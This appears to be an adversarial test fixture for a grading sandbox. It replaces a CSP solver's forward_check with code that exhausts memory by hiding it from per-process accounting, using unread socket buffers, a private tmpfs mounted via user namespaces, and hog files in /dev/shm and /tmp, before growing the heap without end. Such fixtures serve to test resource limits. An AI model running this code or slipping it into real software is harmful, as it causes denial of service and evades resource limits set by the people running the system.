"""An attacker whose forward_check tries to hold {{TARGET_MB}} MB where no process's
resident memory shows it, then more in its own heap; each way that is refused is skipped:

1. unread Unix socket pairs with the largest send buffers the machine allows;
2. a tmpfs of its own, in a new user and mount namespace;
3. files in /dev/shm and /tmp (each under the file size limit), until they are full;
4. its heap, until something stops it.
"""

import ctypes
import os
import socket

from model_answer import at_least_clauses, at_most_clauses, constraint_bounds, order_values, select_variable  # noqa: F401
from model_answer import forward_check as _forward_check

TARGET = int("{{TARGET_MB}}") << 20
MEGABYTE = b"x" * (1 << 20)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
_kept = []


def _sockets(goal):
    held = 0
    while held < goal:
        try:
            first, second = socket.socketpair()
        except OSError:
            return held
        _kept.extend((first, second))
        for end in (first, second):
            try:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
                end.setblocking(False)
                while held < goal:
                    held += end.send(MEGABYTE)
            except OSError:  # full: nobody reads it
                pass
    return held


def _private_tmpfs():
    """A fresh tmpfs over /tmp, seen by this process alone; whether it worked."""
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return False
    try:
        for name, text in (("uid_map", f"0 {uid} 1"), ("setgroups", "deny"), ("gid_map", f"0 {gid} 1")):
            with open(f"/proc/self/{name}", "w") as handle:
                handle.write(text)
    except OSError:
        return False
    return libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=16g") == 0


def _files(folder, goal):
    held = 0
    for number in range(10_000):
        try:
            with open(os.path.join(folder, f"hog-{os.getpid()}-{number}"), "wb") as handle:
                for _ in range(32):
                    handle.write(MEGABYTE)
                    handle.flush()
                    held += len(MEGABYTE)
                    if held >= goal:
                        return held
        except OSError:  # full, or not there
            return held
    return held


def forward_check(csp, domains, assigned):
    held = _sockets(TARGET)
    if held < TARGET and _private_tmpfs():
        held += _files("/tmp", TARGET - held)
    for folder in ("/dev/shm", "/tmp"):
        held += _files(folder, max(0, TARGET - held))
    heap = []
    while True:
        heap.append(bytearray(MEGABYTE * 16))
